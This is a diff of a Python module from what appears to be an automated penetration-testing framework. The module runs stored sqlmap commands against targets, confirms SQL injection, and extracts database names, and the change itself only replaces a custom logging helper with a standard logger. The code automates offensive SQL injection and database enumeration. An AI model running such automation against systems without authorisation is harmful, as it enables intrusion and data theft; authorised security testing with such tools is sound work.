@@ -1,10 +1,12 @@
 
 import subprocess
 import re
-from utils import log_message
+from core.logger import get_logger
 import database as db
 from modules.base_module import ExploitationModule
 
+logger = get_logger(__name__)
+
 class SqlmapExecutorModule(ExploitationModule):
     def __init__(self):
         super().__init__()
@@ -17,7 +19,7 @@ class SqlmapExecutorModule(ExploitationModule):
         """
         target = db.get_target_by_id(target_id)
         if not target:
-            log_message("error", f"[{self.name}] Exploitation failed: Could not find target with ID {target_id} in KB.")
+            logger.error("[%s] Exploitation failed: Could not find target with ID %s in KB.", self.name, target_id)
             return {"status": "failure", "reason": "target_not_found"}
 
         host = target['hostname']
@@ -25,7 +27,7 @@ class SqlmapExecutorModule(ExploitationModule):
         potential_vulns = db.get_potential_vulnerabilities(target_id)
         sql_vulns = [v for v in potential_vulns if v['type'] == "SQL_INJECTION_COMMAND"]
 
-        log_message("info", f"[{self.name}] Evaluating {len(sql_vulns)} potential SQLi exploits for {host}.")
+        logger.info("[%s] Evaluating %s potential SQLi exploits for %s.", self.name, len(sql_vulns), host)
 
         if not sql_vulns:
             return {"status": "failure", "reason": "no_vulns_for_this_module"}
@@ -40,7 +42,7 @@ class SqlmapExecutorModule(ExploitationModule):
     def _run_sqlmap_exploit(self, vuln, host, target_id):
         vuln_id = vuln['id']
         command = vuln['command'] + " --dbs"
-        log_message("critical", f"[{self.name}] Executing attack on {host} (Vuln ID: {vuln_id}): {command}")
+        logger.critical("[%s] Executing attack on %s (Vuln ID: %s): %s", self.name, host, vuln_id, command)
         
         try:
             result = subprocess.run(
@@ -48,7 +50,7 @@ class SqlmapExecutorModule(ExploitationModule):
             )
 
             if "vulnerable" in result.stdout.lower():
-                log_message("critical", f"[{self.name}] SQLMAP on {host} CONFIRMED vulnerable.")
+                logger.critical("[%s] SQLMAP on %s CONFIRMED vulnerable.", self.name, host)
                 db.update_vulnerability_status(vuln_id, 'confirmed')
                 
                 extracted_dbs = self._parse_sqlmap_output(result.stdout)
@@ -61,16 +63,16 @@ class SqlmapExecutorModule(ExploitationModule):
                     )
                 return {"status": "success"}
             else:
-                log_message("warning", f"[{self.name}] SQLMAP on {host} did not report injectable. Marking as failed.")
+                logger.warning("[%s] SQLMAP on %s did not report injectable. Marking as failed.", self.name, host)
                 db.update_vulnerability_status(vuln_id, 'failed')
                 return {"status": "failure", "reason": "not_vulnerable"}
 
         except subprocess.TimeoutExpired:
-            log_message("error", f"[{self.name}] Command timed out for {host}. Marking as failed.")
+            logger.error("[%s] Command timed out for %s. Marking as failed.", self.name, host)
             db.update_vulnerability_status(vuln_id, 'failed')
             return {"status": "failure", "reason": "timeout"}
         except Exception as e:
-            log_message("error", f"[{self.name}] Error during exploit for vuln {vuln_id}: {e}")
+            logger.error("[%s] Error during exploit for vuln %s: %s", self.name, vuln_id, e)
             db.update_vulnerability_status(vuln_id, 'failed')
             return {"status": "failure", "reason": "exception"}
 
@@ -83,5 +85,5 @@ class SqlmapExecutorModule(ExploitationModule):
                 matches = db_regex.findall(db_list_section.group(1))
                 if matches:
                     databases = [db.strip() for db in matches if not db.startswith('(')]
-                    log_message("info", f"[{self.name}] Parsed databases from sqlmap output: {databases}")
+                    logger.info("[%s] Parsed databases from sqlmap output: %s", self.name, databases)
         return databases